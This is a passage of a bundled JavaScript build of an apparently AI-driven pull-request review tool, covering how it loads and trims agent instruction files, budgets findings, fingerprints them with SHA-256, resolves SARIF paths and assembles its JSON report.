export const id = 1467;
export const ids = [1467];
export const modules = {

/***/ 34013:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  K: () => (/* binding */ withAgentGuidance)
});

// EXTERNAL MODULE: ./.tmp/bundle-src/core/repo-path.js
var repo_path = __webpack_require__(36535);
// EXTERNAL MODULE: ./.tmp/bundle-src/config/path-match.js + 1 modules
var path_match = __webpack_require__(82037);
// EXTERNAL MODULE: ./.tmp/bundle-src/config/split-list.js
var split_list = __webpack_require__(91591);
;// CONCATENATED MODULE: ./.tmp/bundle-src/prompt/instruction-sections.js
/**
 * Instruction files for coding agents (AGENTS.md, Copilot's instructions) are written for an agent
 * that changes code: next to the conventions a reviewer needs, they hold git workflow, commit and
 * PR etiquette, setup commands and the tone of comments. Issue 44: long AGENTS.md files were read in
 * full as review guidance. This keeps the Markdown sections a reviewer needs (code style,
 * conventions, naming, types, errors, architecture, testing, security, review) and leaves the rest
 * out, saying what it left out.
 */
/** Headings of sections a reviewer judges code against. */
const FOR_REVIEW = /\b(?:style|convention|naming|format|lint|typ(?:e|es|ing)|error|exception|architect|design|pattern|api|test|spec|coverage|secur|auth|secret|privacy|safety|review|guideline|rule|standard|best practice|code|quality|performance|accessib|do(?:n't| not)|must|avoid|pitfall|gotcha|invariant|dependenc)/i;
/** Headings of sections that are about working on the repository, not about its code. */
const FOR_AGENTS = /\b(?:git|commit|branch|pull request|PRs?\b|merge|rebase|release|deploy|publish|changelog|setup|set up|install|getting started|environment|dev(?:elopment)? server|running|run the|build(?:ing)? the|command|tool(?:s|ing)?\b|workflow|ci\b|communicat|tone|persona|language of|chat|task|plan(?:ning)?\b)/i;
function split(text) {
    const preamble = [];
    const sections = [];
    let fence = false;
    for (const line of text.split('\n')) {
        if (/^\s*(```|~~~)/.test(line))
            fence = !fence;
        const heading = fence ? null : /^(#{1,6})\s+(.*?)\s*#*\s*$/.exec(line);
        if (heading)
            sections.push({ heading: heading[2] ?? '', depth: heading[1].length, body: [line] });
        else
            (sections[sections.length - 1]?.body ?? preamble).push(line);
    }
    return { preamble, sections };
}
/**
 * `text` with only the sections a reviewer needs. A section is kept when its heading is about the
 * code (FOR_REVIEW), or its nearest decided parent was kept, and its own heading is not about
 * working on the repository (FOR_AGENTS, which wins: "Commit conventions" is left out). The text
 * before the first heading is kept (it says what the project is). A file without headings is kept
 * whole: there is nothing to tell its parts apart by.
 */
function reviewerSections(text) {
    const { preamble, sections } = split(text);
    if (sections.length === 0)
        return { text, left: [], kept: [] };
    const out = [...preamble];
    const kept = [];
    const left = [];
    // The decision of the nearest enclosing heading at each depth.
    const parents = [];
    for (const s of sections) {
        parents.length = s.depth - 1;
        const parent = parents.findLast((p) => p !== undefined);
        const own = FOR_AGENTS.test(s.heading) ? false : FOR_REVIEW.test(s.heading) ? true : undefined;
        const keep = own ?? parent ?? false;
        parents[s.depth - 1] = keep;
        if (keep) {
            kept.push(s.heading);
            out.push(...s.body);
        }
        else
            left.push(s.heading);
    }
    return { text: out.join('\n').trim(), left, kept };
}
/** `instruction` trimmed to its reviewer sections, logging what was left out of which file. */
function trimForReviewer(instruction, logger) {
    const trimmed = reviewerSections(instruction.text);
    if (trimmed.left.length === 0)
        return instruction;
    logger.info(`agent instructions: ${instruction.source} trimmed to what a reviewer needs ` +
        `(${trimmed.text.length} of ${instruction.text.length} characters); left out: ${trimmed.left.join(', ')}`);
    return { ...instruction, text: trimmed.text };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/config/agent-instructions.js




/**
 * A reader of `workspace` at `ref`. A symlinked instruction file (`AGENTS.md -> CLAUDE.md`) reads
 * as the file it names, at the same revision, when that is a file inside the repository; a link
 * that leads out of it, into `.git` or to another link is not followed and reads as absent.
 */
function workspaceReader(workspace, ref, logger) {
    const read = async (file) => {
        const text = await workspace.readFile(file, ref);
        if (text === null || !(await workspace.isSymlink?.(file, ref)))
            return text;
        const target = linkTarget(file, text);
        if (target === null || (await workspace.isSymlink?.(target, ref))) {
            logger.info(`agent instructions: ${file} is a symlink to ${JSON.stringify(text)}, not followed (outside the repository or another link)`);
            return null;
        }
        return workspace.readFile(target, ref);
    };
    return {
        read,
        listBelow: (folder) => workspace.listBelow?.(folder, ref) ?? Promise.resolve([]),
    };
}
/** The repository path a symlink at `file` with target text `target` names; null when it leads out. */
function linkTarget(file, target) {
    if (target.startsWith('/') || target.includes('\\'))
        return null;
    try {
        const folder = file.includes('/') ? file.slice(0, file.lastIndexOf('/') + 1) : '';
        return (0,repo_path/* safeRelativePath */.lV)(`${folder}${target}`);
    }
    catch {
        return null;
    }
}
/** About 3,000 tokens: room for a team's conventions, not for a whole handbook in every prompt. */
const MAX_AGENT_INSTRUCTION_CHARS = 12_000;
/** Folders probed for an AGENTS.md (one read each); deeper ones beyond this many are not looked at. */
const MAX_AGENTS_FOLDERS = 40;
const COPILOT_FILE = '.github/copilot-instructions.md';
const INSTRUCTIONS_FOLDER = '.github/instructions';
const AGENTS_FILE = 'AGENTS.md';
const FRONT_MATTER = /^\uFEFF?---[ \t]*\r?\n([\s\S]*?)\r?\n---[ \t]*(?:\r?\n|$)/;
/**
 * Splits a `.instructions.md` file into its YAML front matter and its Markdown body. The YAML parser
 * is imported only for a file with front matter: most repositories have none (issue 48).
 */
async function parseInstructionFile(text) {
    const match = FRONT_MATTER.exec(text);
    if (!match)
        return { applyTo: null, excludeAgent: [], body: text, problem: null };
    const { parse: parseYaml } = await __webpack_require__.e(/* import() */ 8815).then(__webpack_require__.t.bind(__webpack_require__, 38815, 19));
    let data;
    let problem = null;
    try {
        data = parseYaml(match[1] ?? '');
    }
    catch (error) {
        data = null;
        problem = `its front matter is not valid YAML (${error instanceof Error ? error.message.split('\n')[0] : String(error)})`;
    }
    const fields = typeof data === 'object' && data !== null ? data : {};
    return {
        applyTo: globList(fields.applyTo),
        excludeAgent: globList(fields.excludeAgent) ?? [],
        body: text.slice(match[0].length),
        problem,
    };
}
/** Whether any of `paths` matches the globs; a glob that cannot be matched is the message why. */
function appliesTo(globs, paths) {
    try {
        return paths.some((0,path_match/* globMatcher */.fU)(globs));
    }
    catch (error) {
        if (error instanceof path_match/* GlobError */.pZ)
            return error.message;
        throw error;
    }
}
/** `"a, b"` (commas in braces kept: `**\/*.{ts,tsx}`) or `[a, b]` as trimmed, non-empty strings; else null. */
function globList(value) {
    const items = typeof value === 'string' ? (0,split_list/* splitList */.r)(value) : Array.isArray(value) ? value : null;
    if (items === null)
        return null;
    const list = items.filter((i) => typeof i === 'string').map((i) => i.trim());
    return list.filter((i) => i !== '');
}
/** For each path, the folder of its nearest AGENTS.md among `present` ('' = the root); paths without one are left out. */
function nearestAgentsFolders(paths, present) {
    const byFolder = new Map();
    for (const path of paths) {
        const folder = ancestors(path).find((f) => present.has(f));
        if (folder === undefined)
            continue;
        byFolder.set(folder, [...(byFolder.get(folder) ?? []), path]);
    }
    return byFolder;
}
/** The folders above `path`, nearest first, the root ('') last. */
function ancestors(path) {
    const parts = path.split('/').slice(0, -1);
    const out = [];
    for (let i = parts.length; i > 0; i--)
        out.push(parts.slice(0, i).join('/'));
    out.push('');
    return out;
}
const agentsPath = (folder) => (folder === '' ? AGENTS_FILE : `${folder}/${AGENTS_FILE}`);
/** Keeps the instructions within `maxChars` in order: the one that crosses it is cut, later ones left out. */
function capInstructions(instructions, maxChars, logger) {
    const kept = [];
    let used = 0;
    for (const [i, instruction] of instructions.entries()) {
        const room = maxChars - used;
        if (instruction.text.length <= room) {
            kept.push(instruction);
            used += instruction.text.length;
            continue;
        }
        if (room > 0) {
            kept.push({
                ...instruction,
                text: `${instruction.text.slice(0, room)}\n(cut here: over the size cap)`,
            });
            logger.info(`agent instructions: ${instruction.source} cut to ${room} of ${instruction.text.length} characters ` +
                `(the cap for all agent instruction files is ${maxChars})`);
        }
        const left = instructions.slice(room > 0 ? i + 1 : i).map((x) => x.source);
        if (left.length > 0)
            logger.info(`agent instructions: left out (over the ${maxChars}-character cap): ${left.join(', ')}`);
        break;
    }
    return kept;
}
/** The Copilot instruction files that apply to some of `paths`, in path order. */
async function copilotInstructions(reader, paths, logger) {
    const out = [];
    const whole = await reader.read(COPILOT_FILE);
    if (whole !== null && whole.trim() !== '')
        out.push({ globs: ['**'], text: whole.trim(), source: COPILOT_FILE });
    const files = (await reader.listBelow(INSTRUCTIONS_FOLDER))
        .filter((f) => f.endsWith('.instructions.md'))
        .sort();
    for (const file of files) {
        const text = await reader.read(file);
        if (text === null)
            continue;
        const parsed = await parseInstructionFile(text);
        // The team meant this file to apply somewhere: say why it does not, rather than drop it quietly.
        if (parsed.problem !== null)
            logger.warn(`agent instructions: ${file} is left out: ${parsed.problem}`);
        if (parsed.applyTo === null || parsed.applyTo.length === 0)
            continue;
        if (parsed.excludeAgent.includes('code-review') || parsed.body.trim() === '')
            continue;
        const applies = appliesTo(parsed.applyTo, paths);
        if (typeof applies === 'string')
            logger.warn(`agent instructions: ${file} is left out: ${applies}`);
        if (applies !== true)
            continue;
        out.push({ globs: parsed.applyTo, text: parsed.body.trim(), source: file });
    }
    return out;
}
/** The nearest AGENTS.md of each of `paths`, each applying to exactly the paths it is nearest to. */
async function agentsFiles(reader, paths, logger) {
    const folders = [...new Set(paths.flatMap(ancestors))].sort((a, b) => depth(a) - depth(b) || a.localeCompare(b));
    if (folders.length > MAX_AGENTS_FOLDERS) {
        logger.info(`agent instructions: looked for AGENTS.md in ${MAX_AGENTS_FOLDERS} of ${folders.length} folders (the shallowest)`);
    }
    const texts = new Map();
    for (const folder of folders.slice(0, MAX_AGENTS_FOLDERS)) {
        const text = await reader.read(agentsPath(folder));
        if (text !== null && text.trim() !== '')
            texts.set(folder, text.trim());
    }
    const byFolder = nearestAgentsFolders(paths, new Set(texts.keys()));
    return [...byFolder.entries()]
        .sort(([a], [b]) => depth(a) - depth(b) || a.localeCompare(b))
        .map(([folder, files]) => ({
        globs: [folder === '' ? '**' : `${folder}/**`],
        paths: files,
        text: texts.get(folder) ?? '',
        source: agentsPath(folder),
    }));
}
const depth = (folder) => (folder === '' ? 0 : folder.split('/').length);
/**
 * The agent instruction files that apply to the changed `paths`, read through `reader` (the base
 * of the change), capped at `maxChars` in all: Copilot's files first, then the AGENTS.md files.
 */
async function loadAgentInstructions(reader, paths, logger, maxChars = MAX_AGENT_INSTRUCTION_CHARS) {
    if (paths.length === 0)
        return [];
    const found = [
        ...(await copilotInstructions(reader, paths, logger)),
        ...(await agentsFiles(reader, paths, logger)),
    ].map((instruction) => trimForReviewer(instruction, logger));
    const kept = capInstructions(found, maxChars, logger);
    if (kept.length > 0)
        logger.info(`agent instructions from the base: ${kept.map((i) => i.source).join(', ')}`);
    return kept.map((i) => ({ ...i, agentFile: true }));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/app/agent-guidance.js
/**
 * Adds the repository's instruction files for coding agents (src/config/agent-instructions.ts) to
 * the model's per-path guidance, read at the base of the change: the PR's base commit in the
 * action and for `review --pr`, the base of the compared range locally. Off with
 * `agent-instructions: false`; a failed read costs the guidance, never the review.
 */

async function withAgentGuidance(model, settings, base, logger) {
    const { workspace, ref } = base;
    if (!settings['agent-instructions'] || ref === null)
        return model;
    const reader = workspaceReader(workspace, ref, logger);
    let found;
    try {
        found = await loadAgentInstructions(reader, base.paths, logger);
    }
    catch (error) {
        logger.warn(`could not read the agent instruction files at the base: ${String(error)}`);
        return model;
    }
    if (found.length === 0)
        return model;
    const pathInstructions = [...(model.settings.pathInstructions ?? []), ...found];
    return { ...model, settings: { ...model.settings, pathInstructions } };
}


/***/ }),

/***/ 41096:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ loadImported)
/* harmony export */ });
/* harmony import */ var _review_stages_imported_imported_findings_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(65282);

/** The imported input of a run; `roots` are the absolute prefixes a tool's paths may carry. */
async function loadImported(source, settings, roots, logger) {
    if (!source)
        return undefined;
    // The SARIF, checkstyle (an XML parser) and rdjson readers load only when a run was given files.
    const { readResultGlobs, readResultPaths } = await Promise.all(/* import() */[__webpack_require__.e(9800), __webpack_require__.e(9746)]).then(__webpack_require__.bind(__webpack_require__, 69746));
    const read = 'globs' in source
        ? await readResultGlobs(source.globs, source.root)
        : await readResultPaths(source.paths, source.cwd);
    const results = read.files.flatMap((f) => f.results);
    for (const file of read.files)
        logger.info(`${file.file}: ${file.results.length} result(s) (${file.format})`);
    const problems = [...read.problems, ...read.files.flatMap((f) => f.problems)];
    for (const problem of problems)
        logger.warn(problem);
    const severity = Object.fromEntries(Object.entries(settings['sarif-severity']).map(([tool, levels]) => [(0,_review_stages_imported_imported_findings_js__WEBPACK_IMPORTED_MODULE_0__/* .toolId */ .MS)(tool), levels]));
    return { results, problems, options: { filter: settings['sarif-filter'], severity, roots } };
}


/***/ }),

/***/ 99139:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ applyFindingsBudget),
/* harmony export */   x: () => (/* binding */ withinBudget)
/* harmony export */ });
/* harmony import */ var _types_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(13281);
/**
 * The findings budgets. A review reports every rule's and every imported tool's finding, every
 * `critical` one and every one whose severity `fail-on` counts; of the model's other findings, only
 * the `max-minor-findings` most important below `high`, and of what is left only the `max-findings`
 * most important in all (the most severe, then the most confident, then one pinned to a line). The
 * rest are held back: counted in the summary and listed in the JSON report, never posted.
 *
 * Why: a model's findings are opinions, and their precision is what a reader pays for.
 * - Below high. On the real-PR tuning half at 62a5eb5 (evals/real-prs/verdicts/tuning-62a5eb5), 44 of
 *   the 52 finding groups were below high and 6 of them named a golden bug; keeping every high finding
 *   and the two most important below it kept all 11 golden matches with 30 groups instead of 52
 *   (precision 21% \u2192 37%, F1 33% \u2192 50%).
 * - In all. On the tuning half at 15653d3 (verdicts/tuning-15653d3), ranked this way, a PR's first
 *   finding named a golden bug in 9 of 11 PRs, its second in 2 of 8, the later ones in 0 of 7 (at
 *   62a5eb5: 8 of 12, 2 of 9, 1 of 4). A finding that is right less often than about F1/2 costs F1;
 *   the second sits at that line, the third well below it. Two in all: F1 47.8% \u2192 57.9% there.
 * A rule's finding is a fact about the code, checked by its own tests: never budgeted. Nor is a
 * critical finding (a reader must see every one) or one `fail-on` counts (the gate must see it).
 */

/** Keeps at most `max.minor` model findings below high and `max.all` in all, over both lists. */
function applyFindingsBudget(findings, unanchored, max, { gate } = { gate: [] }) {
    // A model lens's finding (a rule's has its id) that is not critical and that the gate does not count.
    const budgeted = (f) => f.rule === null && f.severity !== 'critical' && !gate.includes(f.severity);
    const minor = (f) => budgeted(f) && _types_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITY_RANK */ .f3[f.severity] < _types_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITY_RANK */ .f3.high;
    const first = holdBack(findings, unanchored, minor, max.minor);
    const second = holdBack(first.findings, first.unanchored, budgeted, max.all);
    return { ...second, heldBack: [...first.heldBack, ...second.heldBack] };
}
/** Keeps the `max` most important findings that `counts`, and every other one (0 = no limit). */
function holdBack(findings, unanchored, counts, max) {
    const candidates = [...findings, ...unanchored].filter(counts);
    if (max <= 0 || candidates.length <= max)
        return { findings: [...findings], unanchored: [...unanchored], heldBack: [] };
    const order = (f) => [_types_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITY_RANK */ .f3[f.severity], f.confidence, f.anchored ? 1 : 0];
    const ranked = candidates
        .map((f, i) => ({ f, i }))
        .sort((a, b) => {
        const [x, y] = [order(a.f), order(b.f)];
        const k = x.findIndex((v, j) => v !== y[j]);
        return k === -1 ? a.i - b.i : y[k] - x[k];
    });
    const kept = new Set(ranked.slice(0, max).map((r) => r.f));
    const stays = (f) => !counts(f) || kept.has(f);
    return {
        findings: findings.filter(stays),
        unanchored: unanchored.filter(stays),
        heldBack: candidates.filter((f) => !kept.has(f)),
    };
}
/**
 * Which of `found` the budgets would report as things stand, ranked with the findings `seen` before
 * them: the audit reads only those. A finding the budget holds back is never posted, so auditing it
 * pays for nothing; one that a later, louder finding pushes out was audited in vain, which costs
 * tokens but never a finding.
 */
function withinBudget(found, seen, max, { gate } = { gate: [] }) {
    const held = new Set(applyFindingsBudget([...seen, ...found], [], max, { gate }).heldBack);
    return { reach: found.filter((f) => !held.has(f)), beyond: found.filter((f) => held.has(f)) };
}


/***/ }),

/***/ 1905:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  R: () => (/* binding */ fingerprint)
});

// UNUSED EXPORTS: normalizeAnchor

;// CONCATENATED MODULE: ./.tmp/bundle-src/core/sha256.js
/**
 * SHA-256 (FIPS 180-4) of a string's UTF-8 bytes, as lowercase hex: what
 * `createHash('sha256').update(text).digest('hex')` returns, without loading node:crypto. Loading
 * that module takes ~4 ms (38 internal modules) in every process that fingerprints a finding, more
 * than hashing every finding of a review (issue 48). Finding fingerprints are identities, not
 * secrets; sha256.test.ts compares this with node:crypto byte for byte.
 */
const K = new Uint32Array([
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98,
    0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
    0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8,
    0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819,
    0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
    0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
    0xc67178f2,
]);
const rotr = (x, n) => (x >>> n) | (x << (32 - n));
/** The message padded to whole 64-byte blocks: a 1 bit, zeros, then its length in bits (big-endian). */
function padded(bytes) {
    const length = Math.ceil((bytes.length + 9) / 64) * 64;
    const block = new Uint8Array(length);
    block.set(bytes);
    block[bytes.length] = 0x80;
    const view = new DataView(block.buffer);
    const bits = bytes.length * 8;
    view.setUint32(length - 8, Math.floor(bits / 2 ** 32));
    view.setUint32(length - 4, bits >>> 0);
    return view;
}
/** The SHA-256 digest of `text` (UTF-8), as 64 lowercase hex digits. */
function sha256Hex(text) {
    const view = padded(new TextEncoder().encode(text));
    const h = new Uint32Array([
        0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
    ]);
    const w = new Uint32Array(64);
    for (let offset = 0; offset < view.byteLength; offset += 64) {
        for (let i = 0; i < 16; i++)
            w[i] = view.getUint32(offset + i * 4);
        for (let i = 16; i < 64; i++) {
            const a = w[i - 15];
            const b = w[i - 2];
            const s0 = rotr(a, 7) ^ rotr(a, 18) ^ (a >>> 3);
            const s1 = rotr(b, 17) ^ rotr(b, 19) ^ (b >>> 10);
            w[i] = w[i - 16] + s0 + w[i - 7] + s1;
        }
        let [a, b, c, d, e, f, g, hh] = [h[0], h[1], h[2], h[3], h[4], h[5], h[6], h[7]];
        for (let i = 0; i < 64; i++) {
            const t1 = (hh + (rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25)) + ((e & f) ^ (~e & g)) + K[i] + w[i]) | 0;
            const t2 = ((rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) | 0;
            [hh, g, f, e, d, c, b, a] = [g, f, e, (d + t1) | 0, c, b, a, (t1 + t2) | 0];
        }
        const next = [a, b, c, d, e, f, g, hh];
        for (let i = 0; i < 8; i++)
            h[i] = h[i] + next[i];
    }
    return Array.from(h, (word) => word.toString(16).padStart(8, '0')).join('');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/core/fingerprint.js

/** Collapses an anchor so that re-indentation, diff markers and spacing do not change identity. */
function normalizeAnchor(anchor) {
    return anchor
        .replace(/^\s*[+-](?=\s|\S)/, '')
        .replace(/\s+/g, ' ')
        .trim()
        .toLowerCase();
}
/**
 * A wording-free identity for a finding: the same problem on the same code gets the same
 * fingerprint across runs, lenses and rewordings of the title or body. The side is part of it: a
 * deleted line (LEFT) is gone from the head, so a finding on it is not the finding a thread on
 * the same text at the head recorded; were they one, a fixing push that deletes the flagged line
 * would keep that thread open. RIGHT adds nothing to the key, so the fingerprints earlier runs
 * posted (and teams ignored) stay as they were.
 */
function fingerprint(input) {
    const parts = [input.path, input.category.trim().toLowerCase(), normalizeAnchor(input.anchor)];
    if (input.side === 'LEFT')
        parts.push('LEFT');
    const key = parts.join('\u0000');
    // SHA-256 without node:crypto, whose loading cost more than the hashing (sha256.ts, issue 48).
    return sha256Hex(key).slice(0, 16);
}


/***/ }),

/***/ 67501:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   u: () => (/* binding */ isRecord)
/* harmony export */ });
/** Whether `value` is a plain object (a JSON object), not null and not an array. */
function isRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}


/***/ }),

/***/ 11187:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   V: () => (/* binding */ noopObserver)
/* harmony export */ });
/**
 * Ports: what the core asks of the world. Adapters (git, GitHub, model SDKs, stderr, @actions/core)
 * implement them; the core and the pipeline only ever see these interfaces.
 */
const noopObserver = {
    span: (_name, _attributes, fn) => fn(),
    count: () => undefined,
    transcript: () => undefined,
};


/***/ }),

/***/ 52234:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   d: () => (/* binding */ resolveArtifactUri),
/* harmony export */   q: () => (/* binding */ repoPath)
/* harmony export */ });
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var node_url__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(73136);
/**
 * Where a result's file is, as a path. Tools write it many ways: a relative URI with a `uriBaseId`
 * (`%SRCROOT%`, `PROJECTROOT`) that `originalUriBaseIds` may define as an absolute `file://` URI or
 * leave undefined (then it is the checkout root, \u00a73.14.14); an absolute `file:///home/runner/work/\u2026`
 * URI (ESLint's formatter); a bare absolute path; or a path relative to the checkout. `repoPath`
 * strips the checkout's own prefixes (GITHUB_WORKSPACE, the repository root) so what is left can be
 * compared with the PR's file names.
 */


/** Bases may chain to other bases; a cycle is cut after a few steps. */
const MAX_BASE_CHAIN = 8;
/** The URI joined to its base (recursively), as an absolute path, a `file:` URI or a relative path. */
function resolveArtifactUri(uri, baseId, bases) {
    let resolved = uri;
    let id = baseId;
    for (let step = 0; id !== undefined && step < MAX_BASE_CHAIN; step++) {
        const base = bases[id];
        if (!base?.uri)
            break;
        if (isAbsoluteUri(resolved))
            break;
        resolved = joinUri(base.uri, resolved);
        id = base.uriBaseId;
    }
    return resolved;
}
function isAbsoluteUri(uri) {
    return /^[a-z][a-z0-9+.-]*:/i.test(uri) || uri.startsWith('/');
}
function joinUri(base, relative) {
    const withSlash = base.endsWith('/') ? base : `${base}/`;
    if (/^[a-z][a-z0-9+.-]*:/i.test(withSlash))
        return new URL(relative, withSlash).href;
    return `${withSlash}${relative}`;
}
/**
 * The path inside the repository, or null for a file outside every root (another checkout, a
 * library in the tool cache). Roots are absolute directories; the longest matching one wins.
 */
function repoPath(uri, roots) {
    let file;
    if (/^file:/i.test(uri)) {
        try {
            file = (0,node_url__WEBPACK_IMPORTED_MODULE_1__.fileURLToPath)(uri);
        }
        catch {
            return null;
        }
    }
    else if (/^[a-z][a-z0-9+.-]+:/i.test(uri)) {
        return null; // http:, and other schemes, name no file of the checkout
    }
    else {
        file = safeDecode(uri);
    }
    if (!node_path__WEBPACK_IMPORTED_MODULE_0__.isAbsolute(file))
        return clean(file);
    const sorted = [...roots].map((r) => node_path__WEBPACK_IMPORTED_MODULE_0__.resolve(r)).sort((a, b) => b.length - a.length);
    for (const root of sorted) {
        const rel = node_path__WEBPACK_IMPORTED_MODULE_0__.relative(root, file);
        if (rel !== '' && !rel.startsWith('..') && !node_path__WEBPACK_IMPORTED_MODULE_0__.isAbsolute(rel))
            return clean(rel);
    }
    return null;
}
function clean(rel) {
    const normal = node_path__WEBPACK_IMPORTED_MODULE_0__.posix.normalize(rel.split(node_path__WEBPACK_IMPORTED_MODULE_0__.sep).join('/')).replace(/^(\.\/)+/, '');
    return normal.startsWith('../') || normal === '..' || normal === '.' ? null : normal;
}
function safeDecode(uri) {
    try {
        return decodeURIComponent(uri);
    }
    catch {
        return uri;
    }
}


/***/ }),

/***/ 82343:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ buildReport)
/* harmony export */ });
/* harmony import */ var _core_report_rules_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(35947);
/* harmony import */ var _core_types_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(13281);


/** Assembles the JSON report (docs/contracts.md, "Finding and the JSON report") from a pipeline result. */
function buildReport(input) {
    const { result } = input;
    const all = [...result.findings, ...result.unanchored];
    const bySeverity = Object.fromEntries(_core_types_js__WEBPACK_IMPORTED_MODULE_1__/* .SEVERITIES */ .oC.map((s) => [s, all.filter((f) => f.severity === s).length]));
    let added = 0;
    let deleted = 0;
    for (const file of result.kept) {
        added += file.additions;
        deleted += file.deletions;
    }
    return {
        version: _core_types_js__WEBPACK_IMPORTED_MODULE_1__/* .REPORT_VERSION */ .Aj,
        tool: { name: 'prlens', version: input.version },
        target: input.target,
        findings: (0,_core_report_rules_js__WEBPACK_IMPORTED_MODULE_0__/* .sortFindings */ .Tc)(result.findings),
        unanchored: (0,_core_report_rules_js__WEBPACK_IMPORTED_MODULE_0__/* .sortFindings */ .Tc)(result.unanchored),
        excluded_files: result.excluded,
        stats: {
            files_changed: input.filesChanged,
            files_reviewed: result.read,
            lines_added: added,
            lines_deleted: deleted,
            findings_by_severity: bySeverity,
            lenses: result.lenses,
            coverage: result.coverage,
            below_min_severity: result.belowMinSeverity,
            dropped_by_audit: { count: result.droppedByAudit.length, findings: result.droppedByAudit },
            suppressed_inline: result.suppressedInline,
            pre_existing: { count: result.preExisting.length, findings: result.preExisting },
            ...(result.heldBack.findings.length > 0
                ? {
                    held_back: {
                        max_minor_findings: result.heldBack.max,
                        max_findings: result.heldBack.maxAll,
                        count: result.heldBack.findings.length,
                        findings: result.heldBack.findings,
                    },
                }
                : {}),
            ...(result.imported ? { imported: result.imported } : {}),
            ...(result.unconfirmed.length > 0 ? { looked_generated: result.unconfirmed } : {}),
        },
        usage: result.usage,
        warnings: [...result.warnings, ...(input.extraWarnings ?? [])],
        incomplete: result.incomplete,
        duration_ms: Math.max(0, Math.round(input.durationMs)),
    };
}


/***/ }),

/***/ 59614:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Mw: () => (/* binding */ knownFindings),
/* harmony export */   PK: () => (/* binding */ knownSection),
/* harmony export */   Tu: () => (/* binding */ MAX_KNOWN_LISTED),
/* harmony export */   jI: () => (/* binding */ knownLines)
/* harmony export */ });
/* harmony import */ var _prompt_delimiters_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(33766);
/* harmony import */ var _prompt_redact_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(55741);


/** Most known findings listed in one unit's prompt: beyond it a count says how many were left out. */
const MAX_KNOWN_LISTED = 40;
/** A title is cut here: the list names a problem, the comment already explains it. */
const MAX_KNOWN_TITLE = 100;
/** The known list of a run: findings of rules (prlens's own and other tools'), in file order. */
function knownFindings(findings) {
    return findings
        .filter((f) => f.anchored)
        .map((f) => ({
        path: f.path,
        line: f.line,
        source: f.lens === 'static' ? `prlens rule ${f.rule ?? ''}`.trim() : `${f.lens}: ${f.rule ?? ''}`,
        title: oneLine(f.title),
        fingerprint: f.fingerprint,
    }))
        .sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : a.line - b.line));
}
/** The lines of the known list for the unit's files, capped; null when none is on them. */
function knownLines(paths, known, cap = MAX_KNOWN_LISTED) {
    const wanted = new Set(paths);
    const mine = known.filter((k) => wanted.has(k.path));
    if (mine.length === 0)
        return null;
    const lines = mine
        .slice(0, cap)
        .map((k) => (0,_prompt_redact_js__WEBPACK_IMPORTED_MODULE_0__/* .redactSecrets */ .fp)(`${k.path}:${k.line} \u00b7 ${k.source} \u00b7 ${k.title}`));
    if (mine.length > cap)
        lines.push(`(${mine.length - cap} more not listed)`);
